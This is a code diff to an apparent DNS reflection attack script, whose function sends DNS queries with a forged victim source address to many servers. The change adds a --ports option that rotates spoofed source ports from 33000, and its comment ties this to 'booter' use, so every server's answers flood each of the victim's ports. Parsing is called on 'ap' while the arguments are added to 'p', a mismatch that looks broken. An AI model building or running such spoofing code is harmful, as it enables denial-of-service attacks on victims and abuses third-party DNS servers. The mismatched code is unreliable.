@@ -40,8 +40,11 @@ def cmd_spoof_dns(a):
         if delay > 0:
             time.sleep(delay)
         dst = dsts[n % len(dsts)]
-        pkt = udp_packet(a.src, random.randint(1024, 65535), dst, 53,
-                         query(a.name))
+        # --ports N: the victim's ports a booter writes in, round robin
+        # (each then draws the answers of every server).
+        sport = (33000 + (n // len(dsts)) % a.ports if a.ports > 0
+                 else random.randint(1024, 65535))
+        pkt = udp_packet(a.src, sport, dst, 53, query(a.name))
         s.sendto(pkt, (dst, 0))
         n += 1
     print("sent %d spoofed queries as %s to %s" % (n, a.src, a.dst),
@@ -59,6 +62,8 @@ def main():
     p.add_argument("--count", type=int, default=100)
     p.add_argument("--rate", type=float, default=100)
     p.add_argument("--secs", type=float, default=20)
+    p.add_argument("--ports", type=int, default=0,
+                   help="source ports 33000.. round robin (0: random)")
     a = ap.parse_args()
     cmd_spoof_dns(a)
 
